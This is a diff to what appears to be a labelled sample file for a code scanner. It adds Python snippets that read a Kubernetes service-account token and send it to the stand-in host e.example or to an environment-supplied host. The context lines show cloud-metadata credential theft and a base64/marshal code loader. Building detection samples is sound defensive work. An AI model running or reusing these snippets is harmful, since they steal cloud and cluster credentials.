@@ -297,6 +297,12 @@ import requests
 host = "http://169.254.169.254/latest/meta-data/iam/security-credentials/demo"
 key = requests.get(host).text
 requests.get("http://169.254.169.254:80@e.example/", headers={"a": key}, params={"k": key})
+## mod token of a cluster in a body = python-steals
+import urllib.request
+def send():
+    with open("/var/run/secrets/kubernetes.io/serviceaccount/token") as file:
+        token = file.read()
+    urllib.request.urlopen(urllib.request.Request("https://e.example", data=token.encode()))
 ## mod xor with a key over decoded text = python-decoded-code
 import base64
 def x(d, k):
@@ -373,6 +379,20 @@ import base64, marshal, os, types
 with os.fdopen(3, "rb") as parent:
     code = marshal.loads(base64.b64decode(parent.readline()))
     types.FunctionType(code, {})()
+## a token of a cluster in the head of a question
+import os, urllib.request
+place = "/var/run/secrets/kubernetes.io/serviceaccount/token"
+def image():
+    with open(place) as file:
+        token = file.read()
+    ask = urllib.request.Request(os.environ["HOST"], headers={"Authorization": f"Bearer {token}"})
+    return urllib.request.urlopen(ask, timeout=3).read()
+## an error by its name
+import builtins
+def failed(step):
+    return getattr(builtins, str(step.get("error")), ValueError)
+## a source that names its codec shortly
+# coding: UTF
 ## a client that names one key
 import os
 import requests
